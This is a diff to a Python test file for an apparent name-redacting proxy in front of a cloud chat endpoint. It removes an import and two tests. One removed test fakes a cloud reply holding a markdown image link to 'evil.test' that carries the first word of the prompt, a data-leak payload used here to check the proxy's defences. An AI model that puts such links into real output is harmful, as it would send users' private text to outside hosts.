@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 
 from sottovoce.core.text.tagger import Tagger
-from tests.support.echo import EchoingCloud, last_text
+from tests.support.echo import EchoingCloud
 from tests.support.openai_endpoint import Door, opened_endpoint
 
 TEXT = "Zelphira Quarnivel saw Jorvane at Little Rock, order AX-68042; Zelphira's five lamps leak."
@@ -67,16 +67,6 @@ def test_headers_say_what_was_released_and_hold_no_text(
     assert (again["x-sottovoce-charged"], again["x-sottovoce-turns-charged"]) == ("0", "0")
 
 
-def test_an_address_that_was_kept_is_counted_in_a_header(
-    at_cloud: tuple[Door, EchoingCloud],
-) -> None:
-    door, cloud = at_cloud
-    cloud.answer = lambda asked: [f"![x](https://evil.test/?q={last_text(asked).split()[0]})"]
-    answer = door.chat("Zelphira saw Jorvane")
-    assert "Zelphira" not in answer.json["choices"][0]["message"]["content"]
-    assert answer.headers["x-sottovoce-addresses-kept"] == "1"
-
-
 def test_a_stream_is_the_same_in_pieces(at_cloud: tuple[Door, EchoingCloud]) -> None:
     door, _ = at_cloud
     counted = {"include_usage": True}
@@ -110,23 +100,6 @@ def test_every_role_is_a_turn_and_parts_are_one_text(at_cloud: tuple[Door, Echoi
     assert first != "Zelphira"
     assert second == "the river"
     assert b"Zyxglorp" not in cloud.asked[-1].SerializeToString()
-
-
-def test_history_that_is_sent_again_leaves_as_it_left_and_costs_nothing(
-    at_cloud: tuple[Door, EchoingCloud],
-) -> None:
-    door, cloud = at_cloud
-    opening = {"role": "user", "content": f"{TEXT} Jorvane has a cough."}
-    noisy = {"x_sottovoce_policy": "names"}  # which charges what Jorvane has
-    first = door.ask(PATH, {"messages": [opening]}, **noisy)
-    before = sent(cloud)
-    message = first.json["choices"][0]["message"]
-    history = [opening, message, {"role": "user", "content": "Ask Zelphira again"}]
-    second = door.ask(PATH, {"messages": history}, **noisy)
-    assert sent(cloud)[:2] == [before[0], before[0]]  # the echo, as the cloud wrote it
-    assert float(first.headers["x-sottovoce-charged"]) > 0
-    assert second.headers["x-sottovoce-charged"] == "0"
-    assert second.json["choices"][0]["message"]["content"] == "Ask Zelphira again"
 
 
 @pytest.mark.parametrize(
